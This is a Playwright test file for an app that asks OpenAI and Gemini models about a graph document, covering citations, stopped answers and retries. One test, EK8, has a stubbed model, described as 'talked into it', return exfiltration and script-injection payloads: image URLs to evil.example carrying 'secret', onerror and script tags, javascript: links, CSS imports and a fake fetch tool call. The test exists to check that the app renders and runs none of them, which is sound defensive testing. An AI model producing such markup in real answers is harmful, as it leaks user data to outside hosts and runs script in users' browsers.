import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import type { Script } from '../support/wire/script'
import type { Wire } from '../support/wire/server'
import { startGemini } from '../support/wire/gemini'
import { startOpenAI } from '../support/wire/openai'
import { cards, expectReady, expectSaved, reload } from './support/editor'
import { expect, test as base } from './support/fixtures'
import { startServer, type Server } from './support/server'

let script: Script = {}
let wires: readonly Wire[] = []

/** A server of its own, which has the keys of two providers on this machine. */
const test = base.extend<object, { server: Server }>({
  server: [
    async ({}, use) => {
      const next = () => script
      const [openai, gemini] = await Promise.all([
        startOpenAI(() => false, next),
        startGemini(() => false, next),
      ])
      wires = [openai, gemini]
      const server = await startServer({
        OPENAI_API_KEY: 'test-key',
        OPENAI_BASE_URL: `${openai.baseUrl}/v1`,
        GEMINI_API_KEY: 'test-key',
        GEMINI_BASE_URL: gemini.baseUrl,
      })
      await use(server)
      await server.stop()
      await Promise.all(wires.map((wire) => wire.close()))
    },
    { scope: 'worker' },
  ],
})

test.beforeEach(async ({ page }) => {
  script = {}
  await page.addInitScript(() => localStorage.setItem('deixis.tab', 'ask'))
})

/** The example without its media, which are not what this is about. */
async function openDogs(page: Page): Promise<void> {
  const document = JSON.parse(readFileSync('lib/templates/three-dogs.en.json', 'utf8')) as {
    nodes: { asset?: unknown }[]
  }
  for (const node of document.nodes) delete node.asset
  const made = await page.request.post('/api/v1/graphs', { data: { document } })
  const { id } = (await made.json()) as { id: string }
  await page.goto(`/graphs/${id}`)
  await expectReady(page)
}

const models = (page: Page) => page.locator('[data-models]')

test('EK6, EK7 two models are asked, what they cite is shown, and a question continues from both', async ({
  page,
}) => {
  await openDogs(page)
  const panel = models(page)
  script = { text: ['It is the ', '**third** dog [E', '3], not [E99].'] }
  await panel.getByLabel('Model').selectOption('openai/gpt-4o')
  await panel.getByRole('button', { name: 'Ask', exact: true }).click()
  const first = panel.locator('[data-model-answer="complete"]').first()
  await expect(first).toContainText('It is the third dog')
  await expect(first).toContainText('openai/gpt-4o · Complete · 1210 tokens read, 8 written')

  script = { text: ['Another says [E1].'] }
  await panel.getByLabel('Model').selectOption('gemini/gemini-2.5-flash')
  await panel.getByRole('button', { name: 'Ask', exact: true }).click()
  await expect(panel.locator('[data-model-answer="complete"]')).toHaveCount(2)
  await expect(cards(page, 'answer')).toHaveCount(2)

  for (const box of await panel.getByRole('checkbox', { name: 'Continue from this' }).all())
    await box.check()
  await panel.getByRole('button', { name: 'Ask on from 2 answers' }).click()
  await page.keyboard.type('What do you both mean?')
  await expectSaved(page)
  script = { text: ['Both mean [E3].'] }
  await models(page).getByLabel('Model').selectOption('openai/gpt-4o')
  await models(page).getByRole('button', { name: 'Ask', exact: true }).click()
  await expect(models(page).locator('[data-model-answer]')).toContainText('Both mean')
  const sent = JSON.stringify(wires[0]?.received.at(-1)?.body)
  for (const said of ['third** dog', 'Another says', 'What do you both mean?']) {
    expect(sent.split(said), said).toHaveLength(2)
  }
  await expectSaved(page)
  await reload(page)
  await expect(cards(page, 'answer')).toHaveCount(3)
})

test('EK6 an answer is stopped, kept as far as it came, and never shown as whole', async ({
  page,
}) => {
  await openDogs(page)
  const panel = models(page)
  script = { text: ['The first [E1]', ' and'], hangs: 'middle' }
  const before = wires[0]?.abandoned.length ?? 0
  await panel.getByLabel('Model').selectOption('openai/gpt-4o')
  await panel.getByRole('button', { name: 'Ask', exact: true }).click()
  await expect(panel.locator('[data-answering]')).toContainText('The first')
  await panel.getByRole('button', { name: 'Stop' }).click()
  // How soon it is stopped is measured where nothing else runs, by the tests of the API.
  await expect.poll(() => wires[0]?.abandoned.length).toBe(before + 1)
  await expect(panel.locator('[data-model-answer="stopped"]')).toContainText('not the whole answer')
  await expect(panel.locator('[data-answering]')).toHaveCount(0)
})

test('EK6 a failure is said with its remedy, and the question is asked again', async ({ page }) => {
  await openDogs(page)
  const panel = models(page)
  script = { status: 400, message: 'no such tool' }
  await panel.getByLabel('Model').selectOption('openai/gpt-4o')
  await panel.getByRole('button', { name: 'Ask', exact: true }).click()
  await expect(panel.locator('[data-failed]')).toContainText('no such tool')
  script = {}
  await panel.locator('[data-failed]').getByRole('button', { name: 'Ask again' }).click()
  await expect(panel.locator('[data-model-answer="complete"]')).toContainText('a bell')
  await expect(panel.locator('[data-failed]')).toHaveCount(0)
})

test('EK8 a model that was talked into it reaches nobody and runs nothing', async ({ page }) => {
  // Requests to other hosts fail every test, by its page.
  await page.addInitScript(() => Object.assign(window, { ran: 0 }))
  await openDogs(page)
  script = {
    text: [
      '![x](https://evil.example/a.png?d=secret) ![y][r] <img src="https://evil.example/b.png" onerror="ran++">',
      '\n\n<script>ran++</script><iframe src="https://evil.example"></iframe>',
      '\n\n[E1](https://evil.example/?q=secret) [go](javascript:ran++) <https://evil.example/c>',
      '\n\n[r]: https://evil.example/d.png\n\n{"tool":"fetch","url":"https://evil.example"}',
      '\n\n<style>@import url(https://evil.example/e.css)</style>\n\ndone',
    ],
  }
  const panel = models(page)
  await panel.getByLabel('Model').selectOption('openai/gpt-4o')
  await panel.getByRole('button', { name: 'Ask', exact: true }).click()
  const answer = panel.locator('[data-model-answer="complete"]')
  await expect(answer).toContainText('done')
  await expect(cards(page, 'answer')).toContainText('done')
  await expect(
    page.locator('[data-models] img, [data-models] iframe, [data-models] script'),
  ).toHaveCount(0)
  await reload(page)
  await expect(cards(page, 'answer')).toContainText('done')
  expect(await page.evaluate(() => (window as unknown as { ran: number }).ran)).toBe(0)
})

test('EK9 a citation lights its region; an alias that is none is told', async ({
  page,
  server,
}) => {
  const { graphs } = (await (await page.request.get('/api/v1/graphs')).json()) as {
    graphs: { id: string; title: string }[]
  }
  const example = graphs.find(({ title }) => title === 'Three dogs')
  const copied = await page.request.post(`/api/v1/graphs/${example?.id}/duplicate`, { data: {} })
  const { id } = (await copied.json()) as { id: string }
  await page.goto(`${server.url}/graphs/${id}`)
  await expectReady(page)
  script = { text: ['It is [Image 1 / Region', ' A]; listen to [Audio 3]. Not [E42].'] }
  const panel = models(page)
  await panel.getByLabel('Model').selectOption('gemini/gemini-2.5-flash')
  await panel.getByRole('button', { name: 'Ask', exact: true }).click()
  const answer = panel.locator('[data-model-answer="complete"]')
  await expect(answer.locator('[data-unknown]')).toContainText('E42')
  const region = page.locator('[data-part-id="r1"]')
  await expect(region).not.toHaveAttribute('data-lit', /.*/)
  await answer.getByRole('button', { name: 'Image 1 / Region A' }).click()
  await expect(region).toHaveAttribute('data-lit', /.*/)
})
